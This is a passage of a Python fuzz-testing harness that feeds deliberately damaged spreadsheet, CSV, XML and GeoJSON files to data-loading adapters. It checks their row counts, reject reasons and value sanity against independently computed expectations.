            doc["features"] = data.draw(st.sampled_from([None, {}, "features", 3, {"a": []}]))
        elif op == "top_type":
            doc["type"] = data.draw(st.sampled_from(["Feature", "featurecollection", None]))
    if data.draw(st.integers(0, 20), label="wrap") == 0:
        APPLIED.append("wrap in a list")
        doc = [doc]
    text = json.dumps(doc, allow_nan=True, ensure_ascii=data.draw(st.booleans()))
    return text.encode("utf-8")


def _has_coords(geom: Any) -> bool:
    return isinstance(geom, dict) and _first_ring(geom) is not None


def _first_ring(geom: dict) -> list | None:
    c = geom.get("coordinates")
    try:
        ring = c[0] if geom.get("type") == "Polygon" else c[0][0]
    except (TypeError, IndexError, KeyError):
        return None
    return ring if isinstance(ring, list) else None


# ---------------------------------------------------------------------------------------------
# Independent row counts: what the adapter must report as rows_in
# ---------------------------------------------------------------------------------------------


@dataclass
class Expect:
    """rows_in must lie in [lo, hi] (whitespace-only rows may or may not count), or parse fails."""

    lo: int = 0
    hi: int = 0
    readable: bool = True  # False: the adapter cannot have read it, so it must raise SourceError
    why: str = ""


def _blank(cells: list[Any]) -> bool:
    """No content: empty, whitespace or stray byte-order marks (pandas drops a second BOM)."""
    return all(c is None or (isinstance(c, str) and not c.strip().strip("\ufeff")) for c in cells)


def _count_rows(rows: list[list[Any]], header_row: int = 0, skip_before: bool = True) -> Expect:
    """Data rows after the header: rows with content count; whitespace-only rows may count."""
    if skip_before:  # blank lines before the header are skipped by every reader
        rows = [r for r in rows if r] if header_row == 0 else rows
        while rows and header_row == 0 and _blank(rows[0]):
            rows = rows[1:]
    body = rows[header_row + 1 :]
    lo = sum(1 for r in body if not _blank(r))
    ws = sum(1 for r in body if r and _blank(r))
    return Expect(lo, lo + ws)


def _csv_reference_rows(blob: bytes) -> list[list[str]] | None:
    """The CSV as the csv module reads it (no field size limit), or None if it cannot."""
    text = blob.decode("utf-8-sig", errors="replace")
    old = csv.field_size_limit()
    csv.field_size_limit(sys.maxsize)
    try:
        return list(csv.reader(io.StringIO(text, newline="")))
    except csv.Error:
        return None
    finally:
        csv.field_size_limit(old)


def expect_csv(blob: bytes) -> Expect:
    rows = _csv_reference_rows(blob)
    if rows is None:
        return Expect(readable=False, why="csv module cannot parse it")
    return _count_rows(rows)


def expect_tsv(blob: bytes) -> Expect:
    text = blob.decode("utf-8-sig", errors="replace")
    lines = re.split(r"\r\n|\r|\n", text)
    rows = [[ln] for ln in lines if ln.strip()]
    return Expect(max(0, len(rows) - 1), max(0, len(rows) - 1))


def expect_xlsx(blob: bytes, t: Target, max_cols: int | None = None) -> Expect:
    try:
        wb = openpyxl.load_workbook(io.BytesIO(blob), read_only=True, data_only=True)
        try:
            if t.sheet not in wb.sheetnames:
                return Expect(readable=False, why="no sheet")
            rows = [list(r)[:max_cols] for r in wb[t.sheet].iter_rows(values_only=True)]
        finally:
            wb.close()
    except Exception as e:  # noqa: BLE001 - any failure means the workbook is unreadable
        return Expect(readable=False, why=f"openpyxl: {type(e).__name__}")
    if len(rows) <= t.header_row:
        return Expect(readable=False, why="no header row")
    return _count_rows(rows, t.header_row, skip_before=False)


XML_PARSER = dict(resolve_entities=False, no_network=True)


def expect_xml(blob: bytes, t: Target) -> Expect:
    try:
        root = etree.fromstring(blob, etree.XMLParser(**XML_PARSER))
    except etree.XMLSyntaxError as e:
        return Expect(readable=False, why=f"xml: {e}")
    n = len(root.findall(t.xml_path))
    return Expect(n, n)


def expect_geojson(blob: bytes) -> Expect:
    try:
        doc = json.loads(blob.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as e:
        return Expect(readable=False, why=f"json: {e}")
    if not isinstance(doc, dict) or doc.get("type") != "FeatureCollection":
        return Expect(readable=False, why="not a FeatureCollection")
    feats = doc.get("features")
    if feats in (None, []):
        return Expect(0, 0)
    if not isinstance(feats, list):
        return Expect(readable=False, why="features is not a list")
    return Expect(len(feats), len(feats))


# ---------------------------------------------------------------------------------------------
# Checks on what the adapter returned
# ---------------------------------------------------------------------------------------------


def check_result(t: Target, r: AdapterResult, exp: Expect) -> None:
    """Every row accounted for, every reject explained, every loaded value sane."""
    assert isinstance(r, AdapterResult), f"{t.name}: load() returned {type(r).__name__}"
    assert exp.readable, (
        f"{t.name}: loaded a file that cannot be parsed ({exp.why}) instead of raising SourceError"
    )
    assert exp.lo <= r.rows_in <= exp.hi, (
        f"{t.name}: rows_in={r.rows_in} but the file holds {exp.lo}..{exp.hi} data rows"
    )
    assert r.rows_loaded + r.rows_rejected == r.rows_in
    assert 0 <= r.rows_rejected <= r.rows_in, (
        f"{t.name}: {r.rows_rejected} rejects for {r.rows_in} rows (a row rejected twice?)"
    )
    for rej in r.rejects:
        assert isinstance(rej["reason"], str) and rej["reason"].strip(), (
            f"reject without reason: {rej}"
        )
        assert isinstance(rej["source_ref"], str)
    for name, df in r.tables.items():
        assert isinstance(df, pd.DataFrame), f"{t.name}: table {name} is {type(df).__name__}"
    trace = TRACES.get(t.name)
    problem = trace(r) if trace else None
    assert problem is None, f"{t.name}: loaded rows not all in the output: {problem}"
    _check_records(t, r)
    _check_values(t, r)


def _check_records(t: Target, r: AdapterResult) -> None:
    rec = r.tables.get("records")
    if rec is None or rec.empty:
        for name in ("links", "site_facts"):
            df = r.tables.get(name)
            assert df is None or df.empty, f"{t.name}: {name} rows without any record"
        return
    refs = rec["source_ref"]
    assert refs.notna().all() and refs.is_unique, f"{t.name}: record source_ref missing or repeated"
    assert rec["tier"].isin(TIERS).all(), f"{t.name}: tier outside {TIERS}"
    assert rec["geo_precision"].dropna().isin(GEO_PRECISIONS).all()
    for lat, lon in zip(rec["lat"], rec["lon"], strict=True):
        if pd.isna(lat) and pd.isna(lon):
            continue
        problem = valid_coordinate(lat, lon)
        assert problem is None, f"{t.name}: record loaded with a bad coordinate: {problem}"
    known = set(refs)
    for name in ("links", "site_facts"):
        df = r.tables.get(name)
        if df is not None and not df.empty:
            missing = set(df["record_ref"]) - known
            assert not missing, f"{t.name}: {name} point to no record: {sorted(missing)[:3]}"


def _check_values(t: Target, r: AdapterResult) -> None:
    ind = r.tables.get("country_indicators")
    if ind is not None and not ind.empty:
        values = pd.to_numeric(ind["value"], errors="coerce").to_numpy(dtype=float)
        assert np.isfinite(values).all(), f"{t.name}: indicator value NaN or infinite loaded"
        years = pd.to_numeric(ind["year"], errors="coerce")
        assert years.between(1900, 2100).all(), f"{t.name}: indicator year outside 1900-2100"
        assert ind["country_iso3"].isna().sum() == 0, f"{t.name}: indicator without ISO3"
    shapes = r.tables.get("country_shapes")
    if shapes is not None and not shapes.empty:
        for lat, lon in zip(shapes["label_lat"], shapes["label_lon"], strict=True):
            assert valid_coordinate(lat, lon) is None, f"{t.name}: label point {lat}, {lon}"
        for gj in shapes["geojson"]:
            json.loads(gj)


# ---------------------------------------------------------------------------------------------
# One example and the hypothesis loop
# ---------------------------------------------------------------------------------------------


class Hang(BaseException):
    """An adapter took longer than HANG_SECONDS on a tiny file."""


def _alarm(signum, frame):  # noqa: ARG001
    raise Hang(f"adapter ran longer than {HANG_SECONDS} s on one tiny file")


@dataclass
class Stats:
    """What the examples of one target produced."""

    examples: int = 0
    malformed: int = 0  # examples whose file was damaged at least once (the rest: real slices)
    outcomes: Counter = field(default_factory=Counter)
    rows_in: int = 0
    rows_rejected: int = 0
    reasons: Counter = field(default_factory=Counter)
    errors: Counter = field(default_factory=Counter)

    def as_dict(self) -> dict:
        return {
            "examples": self.examples,
            "malformed": self.malformed,
            "outcomes": dict(self.outcomes),
            "rows_in": self.rows_in,
            "rows_rejected": self.rows_rejected,
            "top_reject_reasons": self.reasons.most_common(6),
            "top_source_errors": self.errors.most_common(6),
        }


def _reason_kind(reason: str) -> str:
    """A reject reason without its row-specific values, to count kinds of reasons."""
    return re.sub(r"\d+", "N", re.split(r"[:(]", reason, maxsplit=1)[0]).strip()[:60]


def build_file(data: st.DataObject, t: Target) -> tuple[dict[str, bytes], Expect]:
    """The mutated file(s) for the target, keyed by path in its folder, and the rows they hold."""
    if t.kind == "rmi":
        return build_rmi(data, t)
    if t.kind == "csv":
        blob = write_csv(data, mutate_table(data, seed(t.name), t, typed=False))
    elif t.kind == "tsv":
        blob = write_tsv(data, mutate_table(data, seed(t.name), t, typed=False))
    elif t.kind == "xlsx":
        blob = write_xlsx(data, mutate_table(data, seed(t.name), t, typed=True), t)
    elif t.kind == "xml":
        blob = write_xml(data, seed(t.name), t)
    else:
        blob = write_geojson(data, seed(t.name))
    blob, _ = mutate_bytes(data, blob)
    return {t.filename: blob}, expect_for(t, blob)


def expect_for(t: Target, blob: bytes) -> Expect:
    """The row count of a single-file target's file, counted without the adapter."""
    if t.kind in ("xlsx", "xml"):
        return (expect_xlsx if t.kind == "xlsx" else expect_xml)(blob, t)
    return {"csv": expect_csv, "tsv": expect_tsv, "geojson": expect_geojson}[t.kind](blob)


def csv_bytes(rows: list[list[Any]], encoding: str = "utf-8") -> bytes:
    """Rows as a plain comma-separated file (characters the encoding lacks become '?')."""
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding, errors="replace")


def damage_zip_member(blob: bytes, member: str) -> bytes:
    """The zip (workbook) with the start of one member's deflate stream overwritten.

    0xFF bytes make an invalid deflate block type, so reading it raises zlib.error, which is
    neither BadZipFile nor OSError.
    """
    import struct
    import zipfile

    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        info = z.getinfo(member)
    head = info.header_offset
    name_len, extra_len = struct.unpack("<HH", blob[head + 26 : head + 30])
    start = head + 30 + name_len + extra_len
    return blob[:start] + b"\xff" * 16 + blob[start + 16 :]


@functools.cache
def rmi_seed() -> dict[str, list[list[Any]]]:
    """Per RMI file: rows 1-4 and 20 real look-up rows (columns A-I), or 20 older-version rows."""
    from riskatlas.sources import rmi

    folder = SHARED_DATA / rmi.SOURCE.folder
    out: dict[str, list[list[Any]]] = {}
    for tpl in rmi.ORIGINALS:
        wb = openpyxl.load_workbook(folder / tpl.file, read_only=True, data_only=True)
        try:
            rows = [list(r) for r in wb[rmi.SHEET].iter_rows(max_col=9, values_only=True)]
        finally:
            wb.close()
        body = [r for r in rows[4:] if not _blank(r)]
        out[tpl.file] = [*rows[:4], *_spread(body, SEED_ROWS)]
    with open(folder / rmi.ALL_VERSIONS, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    originals = {(tpl.template, tpl.version) for tpl in rmi.ORIGINALS}
    older = [r for r in rows[1:] if (r[0], r[1]) not in originals]
    out[rmi.ALL_VERSIONS] = [rows[0], *_spread(older, SEED_ROWS)]
    return out


@functools.cache
def rmi_pristine() -> dict[str, bytes]:
    """The five small RMI files, undamaged."""
    from riskatlas.sources import rmi

    out = {}
    for name, rows in rmi_seed().items():
        if name.endswith(".xlsx"):
            out[name] = workbook_bytes(rows, rmi.SHEET)
        else:
            out[name] = csv_bytes(rows)
    return out


def build_rmi(data: st.DataObject, t: Target) -> tuple[dict[str, bytes], Expect]:
    """Four template workbooks and the all-versions CSV, one of them damaged."""

    files = dict(rmi_pristine())
    victim = data.draw(st.sampled_from(sorted(files)), label="rmi_file")
    rows = rmi_seed()[victim]
    if victim.endswith(".xlsx"):
        blob = write_xlsx(data, mutate_table(data, rows, t, typed=True), t)
    else:
        blob = write_csv(data, mutate_table(data, rows, replace(t, header_row=0), typed=False))
    files[victim], _ = mutate_bytes(data, blob)
    parts = [
        _rmi_expect(t, name, blob) if name == victim else _rmi_expect_pristine(t, name)
        for name, blob in files.items()
    ]
    return files, Expect(
        sum(p.lo for p in parts),
        sum(p.hi for p in parts),
        all(p.readable for p in parts),
        "; ".join(p.why for p in parts if p.why),
    )


def _rmi_expect(t: Target, name: str, blob: bytes) -> Expect:
    from riskatlas.sources import rmi

    if name.endswith(".xlsx"):
        return expect_xlsx(blob, t, max_cols=len(RMI_SHEET_COLUMNS))
    return expect_rmi_csv(blob, {(tpl.template, tpl.version) for tpl in rmi.ORIGINALS})


@functools.cache
def _rmi_expect_pristine(t: Target, name: str) -> Expect:
    return _rmi_expect(t, name, rmi_pristine()[name])


def expect_rmi_csv(blob: bytes, originals: set[tuple[str, str]]) -> Expect:
    """Rows of the all-versions CSV that count: those of versions not read from a workbook."""
    rows = _csv_reference_rows(blob)
    if rows is None:
        return Expect(readable=False, why="csv unreadable")
    rows = [r for r in rows if r]
    while rows and _blank(rows[0]):
        rows = rows[1:]
    if not rows or "template" not in rows[0] or "template_version" not in rows[0]:
        return Expect(readable=False, why="no template columns")
    ti, vi = rows[0].index("template"), rows[0].index("template_version")

    def key(r: list[str]) -> tuple[str, str]:
        return (r[ti] if ti < len(r) else "", r[vi] if vi < len(r) else "")

    body = [r for r in rows[1:] if key(r) not in originals]
    lo = sum(1 for r in body if not _blank(r))
    return Expect(lo, lo + sum(1 for r in body if _blank(r)))


def run_example(t: Target, data: st.DataObject, workdir: Path, stats: Stats) -> None:
    """Write one mutated file, load it, and check the outcome."""
    APPLIED.clear()
    files, exp = build_file(data, t)
    stats.malformed += bool(APPLIED)
    stats.examples += 1
    out = load_and_check(t, files, exp, workdir)
    if isinstance(out, SourceError):
        stats.outcomes["source_error"] += 1
        folder = str(workdir / "raw" / t.folder)
        stats.errors[_reason_kind(str(out).split(": ", 1)[-1].replace(folder, "<folder>"))] += 1
        return
    stats.outcomes["rejects" if out.rejects else "clean"] += 1
    stats.rows_in += out.rows_in
    stats.rows_rejected += out.rows_rejected
    stats.reasons.update(_reason_kind(r["reason"]) for r in out.rejects)


def load_and_check(
    t: Target, files: dict[str, bytes], exp: Expect, workdir: Path
) -> AdapterResult | SourceError:
    """Write the files into workdir/raw, run the adapter, and check every invariant.

    Returns the result, or the SourceError it raised (which must name the source). Any other
    exception, or a run longer than HANG_SECONDS, propagates and fails the test.
    """
    raw = workdir / "raw"
    folder = raw / t.folder
    for name, blob in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(blob)
    mod = adapter(t.name)
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(HANG_SECONDS)
    try:
        result = mod.load(raw, path=folder / t.filename) if t.call_with_path else mod.load(raw)
    except SourceError as e:
        msg = str(e)
        assert msg.startswith(f"{mod.SOURCE.source_id}:") or (t.filename and t.filename in msg), (
            f"SourceError does not name the source: {msg}"
        )
        return e
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    check_result(t, result, exp)
    return result


def fuzz(t: Target, workdir: Path, examples: int, derandomize: bool = False) -> Stats:
    """Run `examples` generated inputs against one adapter; raises on the first broken invariant.

    derandomize=True replays the same examples every run (the CI default); False explores anew.
    """
    stats = Stats()

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=derandomize,
        suppress_health_check=list(HealthCheck),
        print_blob=True,
    )
    @given(st.data())
    def one(data: st.DataObject) -> None:
        run_example(t, data, workdir, stats)

    one()
    return stats
